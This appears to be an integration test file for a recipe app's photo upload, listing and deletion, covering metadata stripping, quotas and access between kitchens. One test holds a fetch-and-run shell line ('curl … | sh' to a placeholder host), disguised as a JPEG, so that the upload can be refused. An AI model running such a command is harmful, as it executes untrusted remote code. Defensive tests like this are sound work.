/**
 * recipes/addImage, deleteImage and listImages (issue #33) against the real local stack, Cloud Storage
 * being the stand-in: the stored bytes are read back and checked with sharp.
 */
import sharp from 'sharp';
import {
  PHOTO_QUOTA,
  PHOTO_QUOTA_MESSAGE,
  PHOTO_TOO_LARGE_MESSAGE,
  PHOTO_WRONG_TYPE_MESSAGE,
  type PhotoEntry,
} from '@speiseplaner/shared';
import { call, refusal } from '../helpers/call';
import { seedCatalogue } from '../helpers/catalogue';
import { recipe } from '../helpers/fixtures';
import { createKitchen, testDb, type KitchenCaller } from '../helpers/kitchens';
import { objectBytes, objectNames } from '../helpers/storage';

type Added = { photo: PhotoEntry };
type Listed = { images: string[]; photos: PhotoEntry[]; used: { count: number; bytes: number } };

/** A 300×200 JPEG shot "turned" (EXIF orientation 6) with a camera name and a GPS position in Berlin. */
async function jpegWithGps(colour = { r: 200, g: 120, b: 40 }): Promise<Buffer> {
  return sharp({ create: { width: 300, height: 200, channels: 3, background: colour } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'Testkamera' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '52/1 31/1 12/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '13/1 24/1 0/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** Whether an EXIF block points to a GPS directory (tag 0x8825, either byte order). */
const hasGpsPointer = (exif: Buffer) =>
  exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));

async function kitchenWithRecipe(slug: string): Promise<KitchenCaller> {
  const kitchen = await createKitchen();
  await call('recipes/save', { recipe: recipe(slug) }, kitchen);
  return kitchen;
}

const prefixOf = (kitchen: KitchenCaller) => `kitchens/${kitchen.kitchenId}/`;

beforeAll(seedCatalogue);

describe('recipe photos', () => {
  it('stores a JPEG upright as WebP in three sizes without EXIF or GPS, lists it and deletes it', async () => {
    const kitchen = await kitchenWithRecipe('hirsebrei');
    const original = await jpegWithGps();
    const before = await sharp(original).metadata();
    expect(before.exif && hasGpsPointer(before.exif)).toBe(true);

    const { photo } = (
      await call<Added>(
        'recipes/addImage',
        { recipeId: 'hirsebrei', data: original.toString('base64'), contentType: 'image/jpeg' },
        kitchen,
      )
    ).payload;
    // Turned by its EXIF orientation: 300×200 was shot on its side.
    expect(photo).toMatchObject({ recipeId: 'hirsebrei', width: 200, height: 300 });
    expect(photo.id).toMatch(/^[0-9a-f]{32}$/);

    const base = `kitchens/${kitchen.kitchenId}/recipes/hirsebrei/${photo.id}`;
    expect(await objectNames(prefixOf(kitchen))).toEqual([
      `${base}-1600.webp`,
      `${base}-320.webp`,
      `${base}-800.webp`,
    ]);
    let stored = 0;
    for (const size of [1600, 800, 320]) {
      const bytes = await objectBytes(`${base}-${size}.webp`);
      stored += bytes.length;
      const meta = await sharp(bytes).metadata();
      expect(meta.format).toBe('webp');
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(bytes.includes(Buffer.from('Testkamera'))).toBe(false);
    }
    expect(photo.bytes).toBe(stored);

    const listed = (await call<Listed>('recipes/listImages', {}, kitchen)).payload;
    expect(listed.photos).toEqual([photo]);
    expect(listed.used).toEqual({ count: 1, bytes: stored });

    // The same bytes again: the same entry, charged once.
    const again = await call<Added>(
      'recipes/addImage',
      { recipeId: 'hirsebrei', data: original.toString('base64') },
      kitchen,
    );
    expect(again.payload.photo).toEqual(photo);
    expect((await call<Listed>('recipes/listImages', {}, kitchen)).payload.used.count).toBe(1);

    await call('recipes/deleteImage', { recipeId: 'hirsebrei', imageId: photo.id }, kitchen);
    expect(await objectNames(prefixOf(kitchen))).toEqual([]);
    expect((await call<Listed>('recipes/listImages', {}, kitchen)).payload).toMatchObject({
      photos: [],
      used: { count: 0, bytes: 0 },
    });
  });

  it('refuses a script named .jpg and a file far too large, in German, and stores nothing', async () => {
    const kitchen = await kitchenWithRecipe('linsensuppe');
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
    expect(
      await refusal(
        'recipes/addImage',
        { recipeId: 'linsensuppe', data: script.toString('base64'), contentType: 'image/jpeg' },
        kitchen,
      ),
    ).toEqual({ code: 'invalid-argument', message: PHOTO_WRONG_TYPE_MESSAGE });
    // An SVG is an image but not a photo: refused too (it can carry script).
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"></svg>');
    expect(
      (await refusal('recipes/addImage', { recipeId: 'linsensuppe', data: svg.toString('base64') }, kitchen))
        .message,
    ).toBe(PHOTO_WRONG_TYPE_MESSAGE);

    const twentyMb = Buffer.alloc(20 * 1024 * 1024, 0xff);
    (await jpegWithGps()).copy(twentyMb);
    expect(
      await refusal(
        'recipes/addImage',
        { recipeId: 'linsensuppe', data: twentyMb.toString('base64') },
        kitchen,
      ),
    ).toEqual({ code: 'invalid-argument', message: PHOTO_TOO_LARGE_MESSAGE });
    expect(await objectNames(prefixOf(kitchen))).toEqual([]);
  });

  it('refuses a photo once the quota is reached, in German, and stores nothing', async () => {
    const kitchen = await kitchenWithRecipe('gemuesecurry');
    await testDb()
      .doc(`kitchens/${kitchen.kitchenId}/meta/photos`)
      .set({ count: PHOTO_QUOTA.count, bytes: 1000, photos: [] });
    expect(
      await refusal(
        'recipes/addImage',
        { recipeId: 'gemuesecurry', data: (await jpegWithGps()).toString('base64') },
        kitchen,
      ),
    ).toEqual({ code: 'resource-exhausted', message: PHOTO_QUOTA_MESSAGE });
    expect(await objectNames(prefixOf(kitchen))).toEqual([]);
  });

  it('keeps another kitchen away from a recipe and photos that are not its own', async () => {
    const owner = await kitchenWithRecipe('apfelmus');
    const other = await createKitchen();
    const data = (await jpegWithGps({ r: 10, g: 200, b: 90 })).toString('base64');
    const { photo } = (await call<Added>('recipes/addImage', { recipeId: 'apfelmus', data }, owner)).payload;

    // Another kitchen names the owner's recipe: not its own, so not found, and nothing lands anywhere.
    const added = await refusal('recipes/addImage', { recipeId: 'apfelmus', data }, other);
    expect(added.code).toBe('not-found');
    expect(added.message).toBe('Das eigene Rezept „apfelmus“ wurde nicht gefunden.');
    expect(await objectNames(prefixOf(other))).toEqual([]);
    // Nor can it delete the owner's photo or see it in its list.
    const deleted = await refusal('recipes/deleteImage', { recipeId: 'apfelmus', imageId: photo.id }, other);
    expect(deleted.message).toBe('Das Foto wurde nicht gefunden.');
    expect((await call<Listed>('recipes/listImages', {}, other)).payload.photos).toEqual([]);
    // Naming the owner's kitchen in the request is refused by the membership check.
    const named = await refusal(
      'recipes/addImage',
      { recipeId: 'apfelmus', data },
      {
        ...other,
        kitchenId: owner.kitchenId,
      },
    );
    expect(named.code).toBe('permission-denied');
    const namedDelete = await refusal(
      'recipes/deleteImage',
      { recipeId: 'apfelmus', imageId: photo.id },
      { ...other, kitchenId: owner.kitchenId },
    );
    expect(namedDelete.code).toBe('permission-denied');
    // The owner's files are untouched.
    expect((await objectNames(prefixOf(owner))).length).toBe(3);
  });
});
